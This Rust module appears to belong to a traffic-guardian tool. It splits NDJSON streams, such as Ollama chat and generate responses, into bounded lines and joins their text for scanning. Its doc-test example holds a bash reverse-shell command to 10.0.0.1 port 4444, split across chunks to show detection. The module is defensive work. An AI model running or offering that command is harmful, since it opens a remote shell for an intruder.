//! Newline-delimited JSON streams (`application/x-ndjson`, Ollama's `/api/chat` and `/api/generate`):
//! a bounded line splitter, and [`NdjsonText`], which routes each line through the [`JsonAccumulator`].
//!
//! # Flow
//! Body bytes go to [`NdjsonParser::feed`] in chunks of any size; each LF ends a line (a CR before it is
//! dropped, blank lines are skipped). [`NdjsonText`] walks each JSON line by path, so Ollama's
//! `{"message":{"content":"..."}}` pieces join under `message.content` and `{"response":"..."}` pieces
//! under `response`; a line that is not JSON is scanned as a whole under the key [`LINE_KEY`]. `"done":
//! true` completes pending tool-call arguments.
//!
//! # Limits
//! A line is kept up to [`MAX_LINE_BYTES`]; the rest is dropped, the line marked truncated and counted.
//!
//! ```
//! use picoclaw_traffic_guardian::inspect::ndjson::NdjsonText;
//! let mut nd = NdjsonText::new();
//! let mut text = String::new();
//! let mut sink = |p: picoclaw_traffic_guardian::inspect::accumulate::TextPiece<'_>| {
//!     if p.key == "response" { text.push_str(p.text) }
//! };
//! nd.feed(b"{\"response\":\"bash -i >& /dev/t\"}\n{\"resp", &mut sink);
//! nd.feed(b"onse\":\"cp/10.0.0.1/4444 0>&1\",\"done\":true}\n", &mut sink);
//! nd.finish(&mut sink);
//! assert_eq!(text, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
//! ```

use super::accumulate::{AccumulatorStats, JsonAccumulator, PieceKind, TextPiece};

/// Longest line kept; the rest of a longer line is dropped and the line marked truncated.
pub const MAX_LINE_BYTES: usize = 128 << 10;
/// The key under which a line that is not JSON is handed on.
pub const LINE_KEY: &str = "line";

/// Counters of one splitter.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct NdjsonStats {
    /// Lines handed on (blank lines not counted).
    pub lines: u64,
    /// Lines handed on with `truncated` set.
    pub truncated_lines: u64,
    /// Bytes dropped over the limit.
    pub dropped: u64,
}

/// Incremental, bounded line splitter. One per body.
#[derive(Debug, Default)]
pub struct NdjsonParser {
    line: Vec<u8>,
    truncated: bool,
    stats: NdjsonStats,
}

impl NdjsonParser {
    /// A splitter at the start of a body.
    pub fn new() -> NdjsonParser {
        NdjsonParser::default()
    }

    /// Feeds the next chunk; each line it completes goes to `out` with whether it was truncated.
    pub fn feed(&mut self, mut chunk: &[u8], out: &mut impl FnMut(&[u8], bool)) {
        while let Some(end) = chunk.iter().position(|&b| b == b'\n') {
            let (part, rest) = chunk.split_at(end);
            self.push(part);
            self.end_line(out);
            chunk = rest.get(1..).unwrap_or_default();
        }
        self.push(chunk);
    }

    /// The body ended: a last line without its LF counts.
    pub fn finish(&mut self, out: &mut impl FnMut(&[u8], bool)) {
        self.end_line(out);
    }

    /// Counters so far.
    pub fn stats(&self) -> NdjsonStats {
        self.stats
    }

    /// Bytes held between calls (the open line); at most [`MAX_LINE_BYTES`].
    pub fn buffered(&self) -> usize {
        self.line.len()
    }

    fn push(&mut self, bytes: &[u8]) {
        let room = MAX_LINE_BYTES.saturating_sub(self.line.len());
        let (keep, drop) = bytes.split_at(bytes.len().min(room));
        self.line.extend_from_slice(keep);
        if !drop.is_empty() {
            self.truncated = true;
            self.stats.dropped += drop.len() as u64;
        }
    }

    fn end_line(&mut self, out: &mut impl FnMut(&[u8], bool)) {
        let truncated = std::mem::take(&mut self.truncated);
        let line = self.line.strip_suffix(b"\r").unwrap_or(&self.line);
        if !line.trim_ascii().is_empty() {
            self.stats.lines += 1;
            if truncated {
                self.stats.truncated_lines += 1;
            }
            out(line, truncated);
        }
        if self.line.capacity() > 4096 {
            self.line = Vec::new();
        } else {
            self.line.clear();
        }
    }
}

/// An NDJSON body turned into text pieces: [`NdjsonParser`] + [`JsonAccumulator`]. One per body.
#[derive(Debug, Default)]
pub struct NdjsonText {
    parser: NdjsonParser,
    acc: JsonAccumulator,
}

impl NdjsonText {
    /// A decoder at the start of a body.
    pub fn new() -> NdjsonText {
        NdjsonText::default()
    }

    /// Feeds the next body chunk; text pieces go to `out` as lines complete.
    pub fn feed(&mut self, chunk: &[u8], out: &mut impl FnMut(TextPiece<'_>)) {
        let NdjsonText { parser, acc } = self;
        parser.feed(chunk, &mut |line, _| route(acc, line, out));
    }

    /// The body ended: the last line is handled and pending tool-call arguments are decoded.
    pub fn finish(&mut self, out: &mut impl FnMut(TextPiece<'_>)) {
        let NdjsonText { parser, acc } = self;
        parser.finish(&mut |line, _| route(acc, line, out));
        acc.finish(out);
    }

    /// The splitter's counters.
    pub fn ndjson_stats(&self) -> NdjsonStats {
        self.parser.stats()
    }

    /// The accumulator's counters.
    pub fn accumulator_stats(&self) -> AccumulatorStats {
        self.acc.stats()
    }
}

fn route(acc: &mut JsonAccumulator, line: &[u8], out: &mut impl FnMut(TextPiece<'_>)) {
    if !acc.push_json(line, out) {
        // Not JSON, or truncated JSON: its text is still scanned, as a whole.
        let text = String::from_utf8_lossy(line);
        out(TextPiece { key: LINE_KEY, kind: PieceKind::Whole, text: &text });
    }
}

#[cfg(test)]
#[path = "ndjson_tests.rs"]
mod tests;
